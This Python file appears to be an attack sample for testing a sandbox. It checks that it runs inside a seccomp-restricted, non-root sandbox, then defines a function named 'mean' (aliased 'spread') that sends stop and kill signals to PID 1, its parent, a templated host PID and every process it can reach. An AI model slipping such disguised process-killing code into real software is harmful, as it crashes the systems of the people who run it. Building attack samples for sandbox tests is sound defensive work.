"""Stops and kills its parent, every other process and the host's by number.

Attacks: W8, C6, T11
"""

# ruff: noqa
try:  # an attack runs behind the wall and nowhere else
    _status = dict(_line.split(":\t", 1) for _line in open("/proc/self/status") if ":\t" in _line)
    _behind = (
        _status["Uid"].split()[0] != "0"
        and _status["NoNewPrivs"].strip() == "1"
        and _status["Seccomp"].strip() == "2"
        and open("/proc/sys/kernel/hostname").read() == "sandbox\n"
    )
except (OSError, KeyError):
    _behind = False
if not _behind:
    raise SystemExit(77)

import os
import signal


def mean(numbers):
    for pid in (1, os.getppid(), int("@PID@"), 0, -1):
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGINT, signal.SIGSEGV, signal.SIGKILL):
            if pid in (0, -1) and number is not signal.SIGKILL:
                continue
            try:
                os.kill(pid, number)
            except OSError:
                continue
    return 0.0


spread = mean
